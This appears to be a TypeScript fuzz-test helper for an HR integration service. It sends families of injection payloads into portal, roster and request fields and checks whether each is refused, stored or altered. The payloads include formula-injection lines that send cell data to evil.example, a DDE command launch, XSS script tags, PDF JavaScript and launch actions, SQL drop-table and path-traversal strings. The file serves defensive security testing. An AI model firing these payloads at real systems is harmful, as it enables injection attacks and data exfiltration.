import type { Random } from '../../src/operator/demo/random.ts';
import { type RecordedResponse, readData } from '../support/http-client.ts';
import type { HostileContext } from './index.ts';

const evil = 'window.__pwned=1';
const esc = '\u001b';

/** Texts that have caused harm elsewhere: for each place where text is used, text that the place would misinterpret. */
const families: Record<string, readonly string[]> = {
  formula: [
    ...["=cmd|' /C calc'!A0", '=1+1', '+1+1', '-2+3', '@SUM(1+1)*1', '\t=1+1', '\r=1+1', '\n=1+1'],
    ...['=HYPERLINK("http://evil.example?x="&A1,"click")', '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")'],
    ...['=DDE("cmd";"/C calc";"x")', '"=1+1', '";=1+1;"', ',=1+1,', ';=1+1;', '＝1+1', '%0A=1+1', '"\n=1+1\n"'],
  ],
  separator: [
    ...['a,b', 'a;b', 'a\tb', 'a"b', 'a""b', '"a"', "'a'", 'a\nb', 'a\r\nb', 'a\\', 'a|b', '\\N', '\\.', 'a\u2028b'],
    ...['a\u2029b', 'a\u0085b', 'a\vb\fc'],
  ],
  html: [
    ...[`<script>${evil}</script>`, `<img src=x onerror=${evil}>`, `"><svg onload=${evil}>`],
    ...[`' onmouseover='${evil}`, `" autofocus onfocus="${evil}`, `javascript:${evil}`],
    ...[`<iframe srcdoc="<script>parent.${evil}</script>">`, `</title><script>${evil}</script>`],
    ...[`</textarea><script>${evil}</script>`, `--><script>${evil}</script><!--`, `]]><script>${evil}</script>`],
    ...[`<a href="javascript:${evil}">x</a>`, `<math><mi xlink:href="data:x,<script>${evil}</script>">`],
    ...['&lt;script&gt;&#x3c;script&#x3e;', '<meta http-equiv=refresh content="0;url=http://evil.example">'],
    ...[`</script><script>${evil}//`, '<style>*{display:none}</style>', '<base href=http://evil.example>'],
  ],
  template: [
    ...['{{7*7}}', `\${7*7}`, '#{7*7}', '<%= 7*7 %>', '{{constructor.constructor("x")()}}', '%s%n%x', '{0}', '$&$1'],
    ...['%o %j', '__proto__', 'constructor'],
  ],
  pdf: [
    ...[') Tj ET', '(a) Tj', '>> endobj 99 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'],
    ...['/OpenAction << /S /Launch /F (calc.exe) >>', 'endstream endobj', '%%EOF', 'trailer << /Root 99 0 R >>'],
    ...['\\) \\( \\\\', '<</URI (http://evil.example) /S /URI>>', 'BT /F1 99 Tf ET', 'stream\r\n'],
  ],
  header: [
    ...['a\r\nX-Injected: yes', 'a\nX-Injected: yes', 'a\r\n\r\n<html>', '"; filename="evil.exe', 'a"; x="b'],
    ...["UTF-8''evil%0d%0aX-Injected:%20yes", 'a%0d%0aX-Injected: yes', 'ａ\u560a\u560dX-Injected: yes'],
  ],
  log: [
    ...[`${esc}[31mred${esc}[0m`, `${esc}]0;title\u0007`, `${esc}[2J${esc}[H`, '\n{"level":"fatal","msg":"forged"}'],
    ...['","level":"fatal","msg":"forged', '\u0008\u0008\u0008', '\u007f\u009b31m', '{"a":1}', '\\u0000\\n'],
  ],
  unicode: [
    ...['\u202eevil\u202c', '\u2066a\u2069', 'a\u200bb\u200cc\u200dd', '\ufeffa', 'e\u0301\u0301\u0301\u0301'],
    ...[`Z${'\u0300\u0316'.repeat(20)}`, 'שלום عليكم', '𝕬𝖓𝖓𝖆 👩‍👩‍👧‍👦', 'İıſß', 'a\ufffdb', '\ufffe\uffff', '\u0000'],
    ...['a\u0000b', '\ud800', 'a\udfffb', '\u{10ffff}', '﷽'],
  ],
  sql: [
    ...["' or 1=1 --", "'; drop table employees; --", '$1', '\\', '%_%', '$$x$$', "E'\\x41'", 'x::int', 'a*'],
    ...['/* x */', 'null', 'NULL', '%', '_'],
  ],
  path: [
    ...['../../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'C:\\x.exe', 'a/b', '.htaccess', 'CON'],
    ...['x.pdf.exe', '%2e%2e%2f', 'a:b*c?d<e>f|g', '~root', 'x\u202efdp.exe'],
  ],
  long: [100, 101, 199, 200, 201, 254, 255, 256, 2_000, 20_000].map((length) => 'W'.repeat(length)),
};

const tails = ['', '', '', '', '"', "'", '\\', '>', ')', '<', '&', '\t', ',', ';', '\u200b', ' '];

const markOf = (number: number) => `Zq${String(number).padStart(3, '0')}q`;

export interface HostileText {
  family: string;
  mark: string;
  text: string;
}

/** Characters that break the line, change the direction of the text, or replace lost letters. */
const notInNames = /[\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069\ufffd]/u;

export function isName(text: string, maxLength: number): boolean {
  const trimmed = text.trim();
  return text.isWellFormed() && !notInNames.test(trimmed) && [...trimmed].length <= maxLength;
}

export function makeHostile(count: number, random: Random): HostileText[] {
  const seeds = Object.entries(families).flatMap(([family, texts]) => texts.map((text) => ({ family, text })));
  const order = random.shuffle(seeds);
  return Array.from({ length: count }, (_, index) => {
    const seed = order[index % order.length] ?? random.pick(seeds);
    const mark = markOf(index);
    if (seed.family === 'long') return { family: 'long', mark, text: `${mark}${seed.text.slice(mark.length)}` };
    const second = index < order.length ? '' : random.pick(seeds.filter(({ family }) => family !== 'long')).text;
    return { family: seed.family, mark, text: `${seed.text}${second}${mark}${random.pick(tails)}` };
  });
}

interface Field {
  send(text: string, mark: string): Promise<RecordedResponse>;
  /** Returns everything that is stored in the field. Roster fields are read back when the roster is applied. */
  read?(): Promise<string[]>;
  /** Set for fields that accept exactly the names of at most this many characters. */
  maxName?: number;
}
type Fields = Record<string, Field>;

export const entryOf = (text: string, mark: string, fields: object = {}) => ({
  hrId: text,
  firstName: text,
  lastName: text,
  email: `${mark.toLowerCase()}@example.com`,
  autoSyncEmployee: true,
  ...fields,
});

function portalFields({ client, cookie }: HostileContext): Fields {
  const post = (path: string, body: object) => client.portal(path, body, cookie);
  const read = async <T>(path: string) => readData<T>(await client.portal(path, undefined, cookie));
  const namesAt = async (path: string) => (await read<{ name: string }[]>(path)).map(({ name }) => name);
  const users = () => read<{ users: { name: string }[]; invitations: { email: string }[] }>('/users');
  const invite = (email: string) => post('/users/invitations', { email, roles: ['viewer'] });
  return {
    'name of a key': {
      maxName: 100,
      send: (name) => post('/keys', { name, permissions: ['view-billing'], expiresAt: null }),
      read: () => namesAt('/keys'),
    },
    'name of an integration': {
      maxName: 100,
      send: (name) => post('/integrations', { name, type: 'api-integration' }),
      read: () => namesAt('/integrations'),
    },
    'name of a user': {
      maxName: 100,
      async send(name, mark) {
        const { link } = readData<{ link: string }>(await invite(`guest-${mark.toLowerCase()}@example.com`));
        return client.portal(`/invitations/${link.split('/').at(-1)}`, { name, password: 'a password of a guest' });
      },
      read: async () => (await users()).users.map(({ name }) => name),
    },
    'address of a guest': {
      send: invite,
      read: async () => (await users()).invitations.map(({ email }) => email),
    },
    'address of a sign-in': {
      send: (email) => client.portal('/auth/sign-in/email', { email, password: 'not the password' }),
    },
  };
}

function rosterFields({ client, authorization, integrationId }: HostileContext): Fields {
  const preview = (fields: object, syncId = 'preview') =>
    client.record(`/v1/hr-integrations/${integrationId}/sync?dryRun=true`, {
      method: 'POST',
      headers: { authorization },
      body: { syncId, employees: [entryOf('plain', 'plain', fields)] },
    });
  const field = (name: string, options = {}) => [
    `${name} of a roster`,
    { send: (text: string) => preview({ [name]: text }), ...options },
  ];
  const names = { hrId: 255, firstName: 200, lastName: 200 };
  return {
    ...Object.fromEntries([
      ...Object.entries(names).map(([name, maxName]) => field(name, { maxName })),
      ...['email', 'profileImage', 'dateOfBirth', 'note'].map((name) => field(name)),
    ]),
    syncId: { maxName: 255, send: (text) => preview({}, text) },
    'name of a field': { send: (text) => preview({ [text]: text }) },
  };
}

/** Returns the fields that are not stored. `malformed-http` covers bytes that no client may put into a header. */
function requestFields({ client, authorization, cookie, integrationId }: HostileContext): Fields {
  const paths = {
    'search for employees': '/v1/employees?search=#',
    'search for documents': '/v1/employee-documents?search=#',
    'address looked for': '/v1/employees?emails=#',
    'name of a parameter': '/v1/employees?#=1',
    id: '/v1/employees/#x',
    path: '/v1/#x',
    'id of a sync': `/v1/hr-integrations/${integrationId}/syncs/#x`,
    'search of the portal': '/portal/api/employees?search=#',
    'action of an activity': '/portal/api/activity?action=#',
  };
  const encode = (text: string) => encodeURIComponent(text.toWellFormed()).slice(0, 8_000);
  const printable = (text: string) => text.replace(/[^\x20-\x7e]/g, '').trim();
  const quote = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const headers = { authorization, cookie };
  const inPath = (path: string) => ({
    send: (text: string) => client.record(path.split('#').join(encode(text)), { headers }),
  });
  return {
    ...Object.fromEntries(Object.entries(paths).map(([name, path]) => [name, inPath(path)])),
    headers: {
      send(text) {
        const value = printable(text).slice(0, 4_000);
        return client.record('/v1/me', { headers: { authorization, 'user-agent': value, 'x-request-id': value } });
      },
    },
    'cells of a table': {
      send(text) {
        const table = `hrId,firstName,lastName,email\n${`${quote(text)},`.repeat(3)}a@example.com\n`;
        const path = `/integrations/${integrationId}/preview`;
        return client.portal(path, table, cookie, { 'content-type': 'text/csv' });
      },
    },
  };
}

const isRefusal = ({ status, text }: RecordedResponse) => status >= 400 && status < 500 && text.includes('"code":"');

/** Sends each text in each field. `misjudged` lists names that were refused, and accepted texts that are none. */
export async function tryFields(context: HostileContext) {
  const { texts } = context;
  const counts = { accepted: 0, refused: 0 };
  const [failed, changed, misjudged]: [string[], string[], string[]] = [[], [], []];
  const fields = { ...portalFields(context), ...rosterFields(context), ...requestFields(context) };
  for (const [name, { send, read, maxName }] of Object.entries(fields)) {
    const describe = ({ family, mark }: HostileText) => `${name} (${family} ${mark})`;
    const accepted = new Set<HostileText>();
    for (const one of texts) {
      const response = await send(one.text, one.mark);
      if (isRefusal(response)) counts.refused += 1;
      else if (response.status < 300) accepted.add(one);
      else failed.push(`${describe(one)}: ${response.description}`);
    }
    counts.accepted += accepted.size;
    if (maxName !== undefined) {
      misjudged.push(...texts.filter((one) => accepted.has(one) !== isName(one.text, maxName)).map(describe));
    }
    if (read === undefined) continue;
    const stored = new Set(await read());
    const keptAs = (text: string) => (name.startsWith('address') ? text.trim().toLowerCase() : text.trim());
    changed.push(...[...accepted].filter(({ text }) => !stored.has(keptAs(text))).map(describe));
  }
  return { ...counts, failed, changed, misjudged };
}
